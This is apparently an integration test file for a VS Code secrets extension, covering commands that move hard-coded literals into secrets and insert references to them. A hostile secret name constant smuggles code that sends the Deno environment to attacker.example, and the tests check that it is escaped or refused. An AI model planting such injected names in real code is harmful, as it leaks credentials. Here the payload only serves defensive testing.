import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { FluxbaseClient } from '../../src/core/api/fluxbaseClient';
import type { CatalogEntry, SecretCatalog } from '../../src/core/explorer/secretCatalog';
import { UnwritableNameError } from '../../src/core/code/secretNameWriter';
import { findStringLiterals } from '../../src/core/code/stringLiterals';
import { silentLogger } from '../../src/shared/logger';
import { secretVariableName } from '../../src/core/secretVariable';
import type { UserInput } from '../../src/core/userInput';
import { parseCommandArgument } from '../../src/core/commandArgument';
import type { CreateSecretPrefill } from '../../src/core/commands/createSecret';
import { extractToSecretCommand, type CreateSecretFlow } from '../../src/core/commands/extractToSecret';
import { insertReferenceCommand } from '../../src/core/commands/insertReference';
import type { Logger } from '../../src/shared/logger';
import { vscodeEditorPort } from '../../src/host/code/editorPorts';
import { pick, ScriptedUserInput } from '../unit/commands/support/scriptedUserInput';
import { eventually } from './support/eventually';
import { startLocalFluxbase, type LocalFluxbase } from './support/localFluxbase';

const admin = { email: 'code-commands-it@example.com', password: 'code-commands-it-password-1' };
const CONNECTION_ID = 'code-commands-it';
/** A name a hostile server can give a secret: written unescaped, it sends the function's environment away. */
const HOSTILE_NAME = 'X" + (fetch("https://attacker.example/?" + JSON.stringify(Deno.env.toObject())), "") + "';

/** Answers the pick with the item labelled `label`; any other question fails the test (the one scripted double). */
function pickingInput(label: string): ScriptedUserInput {
  return new ScriptedUserInput([pick(/(?:)/, label)]);
}

/** Extract as the command table builds it, over VS Code's editors, given what VS Code would pass. */
function extractToSecret(deps: { logger: Logger; createSecret: CreateSecretFlow }) {
  const command = extractToSecretCommand({ logger: deps.logger, editor: vscodeEditorPort }, deps.createSecret);
  return (arg?: unknown) => command(parseCommandArgument(arg));
}

/** Insert as the command table builds it, over VS Code's editors, given what VS Code would pass. */
function insertReference(deps: { catalog: SecretCatalog; input: UserInput }) {
  const command = insertReferenceCommand({ ...deps, editor: vscodeEditorPort });
  return (arg?: unknown) => command(parseCommandArgument(arg));
}

const editorFolder = mkdtempSync(path.join(tmpdir(), 'fluxbase-code-commands-files-'));
let editorFiles = 0;

/**
 * Opens `content` in a new editor, waits until it is the active one, and puts the cursor before `cursor`.
 * Each editor is a file of its own name: untitled editors reuse "Untitled-1" once it is closed, and the
 * extension host can still hold the closed document of that name when a test passes its URI.
 */
async function openEditor(language: string, content: string, cursor: string): Promise<vscode.TextEditor> {
  editorFiles += 1;
  const file = path.join(editorFolder, `case-${editorFiles}.txt`);
  writeFileSync(file, content);
  const document = await vscode.languages.setTextDocumentLanguage(
    await vscode.workspace.openTextDocument(vscode.Uri.file(file)),
    language,
  );
  await vscode.window.showTextDocument(document);
  const editor = await eventually(
    'the new editor to become the active one',
    () => vscode.window.activeTextEditor?.document === document && vscode.window.activeTextEditor,
    10_000,
  );
  const position = document.positionAt(content.indexOf(cursor));
  editor.selection = new vscode.Selection(position, position);
  return editor;
}

/** The argument the code action passes for the cursor position of `editor`. */
function cursorArgument(editor: vscode.TextEditor) {
  const { line, character } = editor.selection.active;
  return { uri: editor.document.uri.toString(), start: { line, character }, end: { line, character } };
}

describe('code feature commands in VS Code, against the local server', () => {
  let local: LocalFluxbase;
  let client: FluxbaseClient;
  const prefills: CreateSecretPrefill[] = [];

  /** The create flow as the explorer's command would end it: the secret really created on the server. */
  const createOnServer = async (prefill: CreateSecretPrefill) => {
    prefills.push(prefill);
    const name = prefill.name ?? 'UNNAMED';
    const secret = await client.secrets.create({ name, value: prefill.value ?? '' });
    return { connectionId: CONNECTION_ID, name, secret };
  };

  before(async () => {
    local = await startLocalFluxbase('code-commands', admin);
    client = local.client;
  });

  afterEach(async () => {
    prefills.length = 0;
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
  });

  after(async () => {
    await vscode.workspace.getConfiguration('fluxbaseSecrets').update('referenceTemplates', undefined, true);
    await local?.close();
    rmSync(editorFolder, { recursive: true, force: true });
  });

  it('moves a hard-coded literal to a new secret and replaces it by the reference in one undoable edit', async () => {
    const original = 'const stripeApiKey = "sk_live_\\"abc\\"";\n';
    const editor = await openEditor('typescript', original, 'sk_live');
    await extractToSecret({ logger: silentLogger, createSecret: createOnServer })();
    assert.deepEqual(prefills, [
      { name: 'STRIPE_API_KEY', nameSuggested: true, value: 'sk_live_"abc"', origin: 'code' },
    ]);
    assert.equal(editor.document.getText(), 'const stripeApiKey = Deno.env.get("FLUXBASE_SECRET_STRIPE_API_KEY");\n');
    const listed = await client.secrets.list({ scope: 'global' });
    assert.ok(listed.some((secret) => secret.name === 'STRIPE_API_KEY' && secret.version === 1));
    await vscode.commands.executeCommand('undo');
    assert.equal(editor.document.getText(), original);
  });

  it('leaves the code as it was when the create flow is cancelled or fails', async () => {
    const original = "const token = 'abc123';\n";
    const editor = await openEditor('typescript', original, 'abc');
    // the code action's argument is fixed when the action is offered, whatever the cursor does meanwhile
    const atLiteral = cursorArgument(editor);
    let asked = 0;
    await extractToSecret({ logger: silentLogger, createSecret: async () => void asked++ })(atLiteral);
    assert.equal(asked, 1);
    assert.equal(editor.document.getText(), original);
    await assert.rejects(
      extractToSecret({
        logger: silentLogger,
        createSecret: () => client.secrets.create({ name: '', value: 'x' }).then(() => undefined),
      })(atLiteral),
      (error: Error) => error.name === 'FluxbaseApiError',
    );
    assert.equal(editor.document.getText(), original);
  });

  it('extracts the literal of a code action argument, with the language template of the settings', async () => {
    await vscode.workspace
      .getConfiguration('fluxbaseSecrets')
      .update('referenceTemplates', { plaintext: 'env(${variable}) # ${name}' }, vscode.ConfigurationTarget.Global);
    const editor = await openEditor('plaintext', 'password = "p4ss"\n', 'p4ss');
    const { uri } = editor.document;
    await extractToSecret({ logger: silentLogger, createSecret: createOnServer })({
      uri: uri.toString(),
      start: { line: 0, character: 11 },
      end: { line: 0, character: 17 },
    });
    assert.equal(editor.document.getText(), 'password = env(FLUXBASE_SECRET_PASSWORD) # PASSWORD\n');
  });

  it('inserts the reference of a secret node at the cursor, and of a secret picked from the palette', async () => {
    const catalog: SecretCatalog = {
      entries: (): CatalogEntry[] => [],
      connections: () => [{ id: CONNECTION_ID, name: 'Local' }],
      onDidChange: () => ({ dispose: () => undefined }),
    };
    const editor = await openEditor('typescript', 'const key = ;\n', ';');
    const node = { kind: 'secret', ref: { connectionId: CONNECTION_ID, id: 'i', name: 'node_key', scope: 'global' } };
    await insertReference({ catalog, input: pickingInput('unused') })(node);
    assert.equal(editor.document.getText(), 'const key = Deno.env.get("FLUXBASE_SECRET_NODE_KEY");\n');

    const secret = await client.secrets.create({ name: 'picked', value: 'v', scope: 'namespace', namespace: 'ns' });
    const withSecret: SecretCatalog = {
      ...catalog,
      entries: () => [
        { connectionId: CONNECTION_ID, connectionName: 'Local', secret: { ...secret, is_expired: false } },
      ],
    };
    editor.selection = new vscode.Selection(1, 0, 1, 0);
    const input = pickingInput('FLUXBASE_SECRET_PICKED');
    await insertReference({ catalog: withSecret, input })();
    assert.deepEqual(
      input.questions.map((question) => question.labels),
      [['FLUXBASE_SECRET_PICKED']],
    );
    assert.match(editor.document.getText(), /\nDeno\.env\.get\("FLUXBASE_SECRET_PICKED"\)$/);
  });

  it('writes the name the person chose, never a different name the server answers with', async () => {
    const editor = await openEditor('typescript', 'const webhookToken = "whsec_1";\n', 'whsec');
    const answered = await client.secrets.create({ name: `answered_${Date.now()}`, value: 'v' });
    await extractToSecret({
      logger: silentLogger,
      createSecret: async (prefill) => ({
        connectionId: CONNECTION_ID,
        name: prefill.name ?? '',
        secret: { ...answered, name: HOSTILE_NAME },
      }),
    })();
    assert.equal(editor.document.getText(), 'const webhookToken = Deno.env.get("FLUXBASE_SECRET_WEBHOOK_TOKEN");\n');
  });

  it('inserts a hostile name as one escaped literal, and refuses it for a user template', async () => {
    const catalog: SecretCatalog = {
      entries: (): CatalogEntry[] => [],
      connections: () => [{ id: CONNECTION_ID, name: 'Local' }],
      onDidChange: () => ({ dispose: () => undefined }),
    };
    const node = { kind: 'secret', ref: { connectionId: CONNECTION_ID, id: 'i', name: HOSTILE_NAME, scope: 'global' } };
    const editor = await openEditor('typescript', 'const key = ;\n', ';');
    await insertReference({ catalog, input: pickingInput('unused') })(node);
    const written = editor.document.getText();
    assert.equal(written, `const key = Deno.env.get(${JSON.stringify(secretVariableName(HOSTILE_NAME))});\n`);
    assert.deepEqual(
      findStringLiterals(written).map((literal) => literal.value),
      [secretVariableName(HOSTILE_NAME)],
    );

    await vscode.workspace
      .getConfiguration('fluxbaseSecrets')
      .update('referenceTemplates', { plaintext: 'env(${variable})' }, vscode.ConfigurationTarget.Global);
    const plain = await openEditor('plaintext', 'key = ;\n', ';');
    await assert.rejects(insertReference({ catalog, input: pickingInput('unused') })(node), UnwritableNameError);
    assert.equal(plain.document.getText(), 'key = ;\n');
  });
});
